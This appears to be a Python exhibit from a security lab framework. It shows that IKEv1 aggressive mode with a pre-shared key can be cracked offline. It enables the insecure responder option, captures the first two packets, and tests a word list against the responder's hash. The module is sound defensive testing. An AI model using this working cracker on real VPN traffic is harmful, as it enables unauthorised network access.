"""SEC505: somebody who hears the first two packets of aggressive mode tries words until the responder's hash fits.

Both packets are in clear, and the hash is made of nothing but what is in them and the key (RFC 2409 5 and 5.4). charon
itself does not answer such a request unless it is told to; the far end is told so here, as another maker's router does.
"""

from __future__ import annotations

import hmac
import struct
from collections.abc import Iterable, Iterator, Sequence

from sapper.lab.dissect import dissect
from sapper.lab.exhibits.exhibit import Shown
from sapper.lab.exhibits.look import flow, look
from sapper.lab.result import CapturedFrame
from sapper.lab.rig import Rig
from sapper.lab.side import secret_of
from sapper.lab.swanctl import conf, secret_message

WORDS = ("password", "secret", "letmein", "vyos", "test", "changeme", "example", "12345678", "tunnel")
_ANSWERING = "charon {\n", "charon {\n  i_dont_care_about_security_and_use_aggressive_mode_psk = yes\n"
_IKE_PORT, _HEADER_BYTES, _AGGRESSIVE, _ENCRYPTED = 500, 28, 4, 1
_SA, _KE, _ID, _HASH, _NONCE = 1, 4, 5, 8, 10
_HASH_ATTRIBUTE = 0x8002  # of two bytes, RFC 2409 appendix A
_PRF = {1: "md5", 2: "sha1", 4: "sha256", 5: "sha384", 6: "sha512"}
_TRIED_AGAIN_S, _LIMIT_S, _ATTEMPTS = 2.0, 8.0, 4


def from_two_packets(rig: Rig) -> Shown:
    """1 if a word of the list is the key of the captured exchange."""
    east, west = rig.sides
    rig.start(east)
    _start_answering(rig)
    # To nobody: it keeps the capture open while the daemon asks again.
    spare = {**flow("east", None, west.connections[0].local_addrs[0], "sapper:east:nothing:0"), "port": 9}
    exchange: list[bytes] = []
    for _ in range(_ATTEMPTS):
        rig.block_ike(True)
        rig.load()
        rig.block_ike(False)
        seen = look(rig, [spare], quiet_s=_TRIED_AGAIN_S, limit_s=_LIMIT_S)
        exchange = list(messages([*seen.leaving("east"), *seen.arriving("east")]))
        if _is_from_the_start(exchange):
            break
        rig.unload()
    found = guessed(exchange, WORDS)
    words = (
        f"negotiating: the key is found among {len(WORDS)} words, from two packets" if found else "no hash to try"
    )
    return Shown(count=int(found), words=words)


def _is_from_the_start(exchange: Sequence[bytes]) -> bool:
    """Whether the capture was open in time: a first message, which has no cookie of the answerer yet, and an answer."""
    answered = {any(message[8:16]) for message in exchange}
    return answered == {False, True}


def _start_answering(rig: Rig) -> None:
    west = rig.sides[1]
    rig.ask("start", configurations={west.name: conf(west.plan, rig.timers).replace(*_ANSWERING, 1)}, scripts={})
    rig.vici_all(
        (west.name, "load-shared", secret_message(connection, secret_of(connection, west, rig.sides)))
        for connection in west.connections
    )


def messages(frames: Iterable[CapturedFrame]) -> Iterator[bytes]:
    """The IKE messages in clear, each once."""
    found: dict[bytes, None] = {}
    for frame in frames:
        outer = dissect(frame.frame).outer
        if outer is None or outer.ports is None or _IKE_PORT not in outer.ports:
            continue
        carried = outer.bytes_of_udp
        if carried is not None and len(carried) >= _HEADER_BYTES:
            found[carried] = None
    return iter(found)


def guessed(exchange: Sequence[bytes], words: Iterable[str]) -> bool:
    """Whether one of the words is the key of an aggressive exchange whose first two messages are among these."""
    parts = [
        (message, payloads(message))
        for message in exchange
        if message[18] == _AGGRESSIVE and not message[19] & _ENCRYPTED
    ]
    answered = next((part for part in parts if {_HASH, _SA, _KE, _NONCE, _ID} <= part[1].keys()), None)
    if answered is None:
        return False
    cookie = answered[0][:8]
    asked = next(
        (
            part
            for part in parts
            if part[0][:8] == cookie and _HASH not in part[1] and {_SA, _KE, _NONCE} <= part[1].keys()
        ),
        None,
    )
    if asked is None or asked is answered:
        return False
    (first, mine), (second, theirs) = asked, answered
    prf = _PRF.get(_hash_of(theirs[_SA]) or 0)
    if prf is None:
        return False
    signed = theirs[_KE] + mine[_KE] + second[8:16] + first[:8] + mine[_SA] + theirs[_ID]
    for word in words:
        key = hmac.digest(word.encode(), mine[_NONCE] + theirs[_NONCE], prf)
        if hmac.compare_digest(hmac.digest(key, signed, prf), theirs[_HASH]):
            return True
    return False


def payloads(message: bytes) -> dict[int, bytes]:
    """The bodies of a message's payloads by type, of several the first (RFC 2408 3.2)."""
    found: dict[int, bytes] = {}
    kind, at = message[16], _HEADER_BYTES
    while kind and at + 4 <= len(message):
        following, length = message[at], struct.unpack_from("!H", message, at + 2)[0]
        if length < 4 or at + length > len(message):
            break
        found.setdefault(kind, message[at + 4 : at + length])
        kind, at = following, at + length
    return found


def _hash_of(body: bytes) -> int | None:
    """The hash of the chosen transform: behind DOI, situation, the proposal's header and the transform's."""
    at = 8 + 8 + body[14] if len(body) > 14 else len(body)
    at += 8
    while at + 4 <= len(body):
        kind, value = struct.unpack_from("!HH", body, at)
        if kind == _HASH_ATTRIBUTE:
            return int(value)
        at += 4 if kind & 0x8000 else 4 + value
    return None
